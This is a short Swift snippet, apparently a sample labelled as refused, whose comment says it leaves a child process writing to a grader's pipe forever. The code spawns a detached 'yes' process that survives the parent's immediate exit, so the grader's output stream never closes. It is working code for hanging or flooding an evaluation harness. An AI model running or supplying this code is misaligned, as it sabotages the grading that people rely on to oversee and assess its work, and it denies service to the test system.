// notebook starter: refused
// Leaves a child behind that writes to the grader's pipe for ever, so that the pipe never ends.
import Glibc

func act() {
  var attributes = posix_spawnattr_t()
  posix_spawnattr_init(&attributes)
  posix_spawnattr_setflags(&attributes, 0x80)
  var child: pid_t = 0
  posix_spawn(&child, "/usr/bin/yes", nil, &attributes, [strdup("yes"), nil], nil)
  _exit(0)
}
